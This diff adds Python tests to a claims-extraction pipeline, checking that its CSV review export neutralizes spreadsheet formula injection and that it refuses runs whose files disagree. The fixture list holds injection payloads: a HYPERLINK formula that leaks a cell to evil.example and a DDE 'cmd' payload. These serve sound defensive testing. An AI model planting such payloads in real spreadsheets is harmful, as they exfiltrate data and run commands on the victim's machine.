@@ -332,3 +332,78 @@ def test_filter_actor_matches_cameo_code_of_named_body(tmp_path):
             got = [c["claim_id"] for b in ix.raw_batches(filter_sql(actor=query), order_sql(None)) for c in b]
         assert got == [IDS["trade"]]
     assert filter_claims(claims, actor="RUS") == []  # a code matches whole, not as a prefix
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1"]
+
+
+def _hostile_run(tmp_path):
+    """The fixture run with formula-like doc ids and claim texts (as an article could hold)."""
+    import shutil
+
+    run = tmp_path / "run"
+    shutil.copytree(RUN, run)
+    claims = [json.loads(line) for line in (run / "claims.jsonl").read_text(encoding="utf-8").splitlines()]
+    for claim, formula in zip(claims, FORMULAS):
+        claim["text"] = formula
+        claim["claim_id"] = formula + ":claim"
+    (run / "claims.jsonl").write_text("".join(json.dumps(c, ensure_ascii=False) + "\n" for c in claims),
+                                      encoding="utf-8")
+    return run, claims
+
+
+def test_review_csv_neutralizes_formula_cells(tmp_path):
+    import csv
+
+    run, claims = _hostile_run(tmp_path)
+    rows = list(csv.reader(stdio.StringIO(review(run, fmt="csv"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    triggers = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
+    assert not [c for c in cells if c.startswith(triggers)]
+    header = rows[0]
+    texts = {row[header.index("claim_id")]: row[header.index("text")] for row in rows[1:]}
+    for formula in FORMULAS[:len(claims)]:
+        assert texts["'" + formula + ":claim"] == "'" + formula  # shown as text, nothing lost
+    # plain text and numbers are left alone
+    assert any(c == "iran-russia-uneasy.txt" or c.endswith(".txt") for c in cells)
+
+
+def test_review_csv_keeps_negative_numbers_numeric():
+    from pipeline.stages.review import to_csv
+
+    df = pd.DataFrame({"amount": [-5.0, 3.0], "text": ["-5 percent", "fell"]})
+    assert to_csv(df) == "amount,text\r\n-5.0,'-5 percent\r\n3.0,fell\r\n"
+
+
+def test_review_jsonl_and_parquet_stay_exact(tmp_path):
+    run, claims = _hostile_run(tmp_path)
+    lines = [json.loads(line) for line in review(run, fmt="jsonl").splitlines()]
+    assert {row["text"] for row in lines} >= set(FORMULAS[:len(claims)])
+    pytest.importorskip("pyarrow")
+    out = tmp_path / "c.parquet"
+    review(run, fmt="parquet", out=out)
+    assert set(pd.read_parquet(out)["text"]) >= set(FORMULAS[:len(claims)])
+
+
+def test_review_and_load_run_refuse_a_folder_whose_files_disagree(tmp_path):
+    from pipeline import io
+    from pipeline.api import load_run
+    from pipeline.stages.ingest import ingest
+
+    out = tmp_path / "run"
+    with io.Generation(out) as gen:  # the fixture run, committed as a run would commit it
+        for name, made_from in ((io.DOCUMENTS, ()), (io.MENTIONS, (io.DOCUMENTS,)),
+                                (io.CLAIMS, (io.DOCUMENTS, io.MENTIONS))):
+            gen.writer(name, made_from).write_many(json.loads(line) for line in
+                                                   (RUN / name).read_text(encoding="utf-8").splitlines())
+    assert "claim_id" in review(out, fmt="csv")
+    src = tmp_path / "a.txt"
+    src.write_text("Iran said on Monday it had received $8 billion.", encoding="utf-8")
+    ingest([src], out)  # new documents; the mentions and claims are those of the old ones
+    with pytest.raises(ClaimsError, match=r"claims.jsonl was made from another version of documents.jsonl "
+                                          r"\(run `claims extract`\)"):
+        review(out)
+    with pytest.raises(ClaimsError, match="do not belong together"):
+        load_run(out)
+    assert len(load_run(out, check=False).documents) == 1
